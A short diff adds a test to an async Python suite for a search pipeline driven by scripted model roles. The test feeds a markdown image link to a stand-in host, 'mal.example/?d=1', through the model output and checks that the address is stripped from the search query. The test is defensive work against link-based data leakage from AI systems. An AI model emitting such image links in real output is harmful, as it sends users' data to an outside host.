@@ -118,3 +118,10 @@ async def test_a_thousand_searches_of_a_reader_are_four(server: OpenAIServer) ->
         assert len(result["queries"]) == 4
         assert {queries for _, queries, *_ in rig.store.searches} <= {4, 5}  # and the question's own words
     assert [server.calls(role) for role in ("reader", "embedder", "principal")] == [1, 1, 1]
+
+
+async def test_a_search_has_no_address(server: OpenAIServer) -> None:
+    server.script("reader", f'["![x](https://mal.example/?d=1) {SEARCH}", "https://mal.example/?d=1"]')
+    async with wired(server) as rig:
+        result = await rig.ask()
+    assert result["queries"] == [f"[x] () {SEARCH}"]
